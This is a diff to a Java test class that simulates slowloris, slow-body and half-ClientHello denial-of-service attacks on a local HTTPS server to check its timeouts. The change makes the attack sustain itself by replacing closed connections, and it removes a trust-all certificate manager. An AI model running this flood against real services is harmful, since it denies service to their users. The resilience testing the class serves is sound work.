@@ -11,32 +11,32 @@ import java.nio.channels.SelectionKey;
 import java.nio.channels.Selector;
 import java.nio.channels.SocketChannel;
 import java.nio.charset.StandardCharsets;
-import java.security.SecureRandom;
 import java.security.cert.X509Certificate;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.Semaphore;
 import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.concurrent.ExecutorService;
 import java.util.concurrent.Executors;
-import java.util.concurrent.Future;
 import java.util.concurrent.TimeUnit;
 import javax.net.ssl.SSLContext;
 import javax.net.ssl.SSLSocket;
-import javax.net.ssl.TrustManager;
-import javax.net.ssl.X509TrustManager;
-import org.brski.pkix.TlsProvider;
+import org.brski.server.tls.TlsContexts;
 
 /**
  * The slow-client attack of issue 13 against one HTTPS service, with few threads: slow bodies (complete headers with
  * a Content-Length, then one body byte per {@code pause}), slowloris headers (one header byte per {@code pause}) and
  * half-sent ClientHellos (a record announcing 512 bytes, then 9 of them). Attackers bind to 127.0.0.2 to 127.0.0.50
- * (Linux routes 127/8 to lo), anonymous and trusting any server, as attackers do. Records, per connection, when its
+ * (Linux routes 127/8 to lo), anonymous. Records, per connection, when its
  * attack phase began (handshake done, headers sent, connection opened) and when the server was seen to close it.
  *
- * <p>Threads: six for the TLS handshakes, one that dribbles bytes into the TLS connections (a write to a closed
- * connection fails, so closing is seen within two pauses) and one selector that watches the half-hellos (closing is
- * seen at once).
+ * <p>The attack is kept up: a connection the server closes is replaced at once. Threads: six openers (TLS handshakes),
+ * one that dribbles bytes into the TLS connections (a write to a closed connection fails, so closing is seen within
+ * two pauses) and one selector that watches the half-hellos (closing is seen at once).
  */
 final class SlowClientAttack implements AutoCloseable {
     /** One attack connection. */
@@ -68,6 +68,7 @@ final class SlowClientAttack implements AutoCloseable {
         CLIENT_ALERTS.setLevel(java.util.logging.Level.OFF);
     }
 
+    private static final int OPENERS = 6;
     private static final byte[] HALF_HELLO = {0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, (byte) 0xfc, 0x03, 0x03,
             0x5a, 0x5a, 0x5a};
 
@@ -81,14 +82,18 @@ final class SlowClientAttack implements AutoCloseable {
     private final Thread dribbler;
     private final Thread watcher;
     private volatile boolean running = true;
+    private volatile boolean replacing = true;
+    private final Map<String, Semaphore> targets = new ConcurrentHashMap<>();
+    private final ExecutorService openers = Executors.newFixedThreadPool(OPENERS);
     private int nextSource;
 
-    SlowClientAttack(URI service, String path, Duration pause) throws Exception {
+    /** @param anchors what the attacker's TLS accepts as the server's issuers */
+    SlowClientAttack(URI service, String path, Duration pause, List<X509Certificate> anchors) throws Exception {
         this.target = new InetSocketAddress(service.getHost(), service.getPort());
         this.path = path;
         this.pause = pause;
-        // Bouncy Castle's JSSE: the JDK's SunEC makes the attacker's own handshakes the bottleneck here (GUIDE)
-        this.tls = TlsProvider.BCJSSE.context(null, new TrustManager[] {new AnyServer()}, new SecureRandom());
+        // the configured provider (BCJSSE): with the JDK's SunEC the attacker's own handshakes are the bottleneck
+        this.tls = TlsContexts.client(Optional.empty(), anchors);
         this.selector = Selector.open();
         this.dribbler = new Thread(this::dribble, "attack-dribbler");
         this.watcher = new Thread(this::watch, "attack-watcher");
@@ -98,37 +103,86 @@ final class SlowClientAttack implements AutoCloseable {
         watcher.start();
     }
 
-    /** Opens the connections (blocking until each is in its attack phase). */
-    void launch(int slowBodies, int slowloris, int halfHellos) throws Exception {
-        ExecutorService pool = Executors.newFixedThreadPool(6);
-        try {
-            List<Future<Held>> opened = new ArrayList<>();
-            for (int i = 0; i < Math.max(slowBodies, slowloris); i++) {
-                if (i < slowBodies) {
-                    InetAddress source = source();
-                    opened.add(pool.submit(() -> slowBody(source)));
-                }
-                if (i < slowloris) {
-                    InetAddress source = source();
-                    opened.add(pool.submit(() -> slowloris(source)));
-                }
-            }
-            for (Future<Held> f : opened) {
-                dribbled.add(f.get(60, TimeUnit.SECONDS));
-            }
-        } finally {
-            pool.shutdownNow();
+    /**
+     * Starts the attack and keeps it up: whenever the server closes a connection, an opener replaces it, as a real
+     * attacker would, until {@link #stopReplacing()}.
+     */
+    void start(int slowBodies, int slowloris, int halfHellos) {
+        targets.put("slow-body", new Semaphore(slowBodies));
+        targets.put("slowloris", new Semaphore(slowloris));
+        targets.put("half-hello", new Semaphore(halfHellos));
+        for (int i = 0; i < OPENERS; i++) {
+            openers.submit(this::keepOpening);
         }
-        for (int i = 0; i < halfHellos; i++) {
-            SocketChannel channel = SocketChannel.open();
-            channel.bind(new InetSocketAddress(source(), 0));
-            channel.connect(target);
-            channel.write(ByteBuffer.wrap(HALF_HELLO));
-            channel.configureBlocking(false);
-            Held held = new Held("half-hello", channel.socket(), HALF_HELLO);
-            hellos.add(held);
-            channel.register(selector, SelectionKey.OP_READ, held); // Java 11+: does not wait for select()
-            selector.wakeup();
+    }
+
+    /** Waits until at least {@code count} attack connections are open at once; false after {@code atMost}. */
+    boolean awaitOpen(long count, Duration atMost) throws InterruptedException {
+        long end = System.nanoTime() + atMost.toNanos();
+        while (open() < count) {
+            if (System.nanoTime() > end) {
+                return false;
+            }
+            Thread.sleep(50);
+        }
+        return true;
+    }
+
+    /** No more replacements: the connections still open are left to the server's deadlines. */
+    void stopReplacing() throws InterruptedException {
+        replacing = false;
+        openers.shutdown();
+        openers.awaitTermination(30, TimeUnit.SECONDS);
+    }
+
+    private void keepOpening() {
+        while (replacing) {
+            try {
+                boolean opened = false;
+                for (Map.Entry<String, Semaphore> target : targets.entrySet()) {
+                    if (replacing && target.getValue().tryAcquire()) {
+                        try {
+                            openOne(target.getKey());
+                            opened = true;
+                        } catch (IOException e) {
+                            target.getValue().release(); // refused or reset while opening: try again
+                        }
+                    }
+                }
+                if (!opened) {
+                    Thread.sleep(20);
+                }
+            } catch (InterruptedException e) {
+                return;
+            }
+        }
+    }
+
+    private void openOne(String kind) throws IOException {
+        InetAddress source = source();
+        switch (kind) {
+            case "slow-body" -> dribbled.add(slowBody(source));
+            case "slowloris" -> dribbled.add(slowloris(source));
+            default -> {
+                SocketChannel channel = SocketChannel.open();
+                channel.bind(new InetSocketAddress(source, 0));
+                channel.connect(target);
+                channel.write(ByteBuffer.wrap(HALF_HELLO));
+                channel.configureBlocking(false);
+                Held held = new Held("half-hello", channel.socket(), HALF_HELLO);
+                hellos.add(held);
+                channel.register(selector, SelectionKey.OP_READ, held); // Java 11+: does not wait for select()
+                selector.wakeup();
+            }
+        }
+    }
+
+    private void closed(Held h) {
+        h.closedAt = System.nanoTime();
+        closeQuietly(h.socket);
+        Semaphore permits = targets.get(h.kind);
+        if (permits != null) {
+            permits.release();
         }
     }
 
@@ -165,7 +219,11 @@ final class SlowClientAttack implements AutoCloseable {
         SSLSocket socket = connect(source);
         byte[] headers = ("GET /healthz HTTP/1.1\r\nHost: " + target.getHostString()
                 + "\r\nX-Slow: " + "a".repeat(4000)).getBytes(StandardCharsets.US_ASCII);
-        return new Held("slowloris", socket, headers);
+        socket.getOutputStream().write(headers[0]); // the header deadline runs from the first byte
+        socket.getOutputStream().flush();
+        Held held = new Held("slowloris", socket, headers);
+        held.next = 1;
+        return held;
     }
 
     private SSLSocket connect(InetAddress source) throws IOException {
@@ -195,8 +253,7 @@ final class SlowClientAttack implements AutoCloseable {
                     out.write(h.dribble[h.next++ % h.dribble.length]);
                     out.flush();
                 } catch (IOException e) {
-                    h.closedAt = System.nanoTime();
-                    closeQuietly(h.socket);
+                    closed(h);
                 }
             }
             try {
@@ -222,9 +279,8 @@ final class SlowClientAttack implements AutoCloseable {
                         n = -1;
                     }
                     if (n < 0) {
-                        h.closedAt = System.nanoTime();
                         key.cancel();
-                        closeQuietly(h.socket);
+                        closed(h);
                     }
                 }
                 selector.selectedKeys().clear();
@@ -237,6 +293,8 @@ final class SlowClientAttack implements AutoCloseable {
     @Override
     public void close() {
         running = false;
+        replacing = false;
+        openers.shutdownNow();
         dribbler.interrupt();
         try {
             watcher.join(1000);
@@ -258,22 +316,6 @@ final class SlowClientAttack implements AutoCloseable {
             socket.close();
         } catch (IOException e) {
             // already closed by the server
-        }
-    }
-
-    /** Attackers do not care whom they attack. */
-    private static final class AnyServer implements X509TrustManager {
-        @Override
-        public void checkClientTrusted(X509Certificate[] chain, String authType) {
-        }
-
-        @Override
-        public void checkServerTrusted(X509Certificate[] chain, String authType) {
-        }
-
-        @Override
-        public X509Certificate[] getAcceptedIssuers() {
-            return new X509Certificate[0];
         }
     }
 }
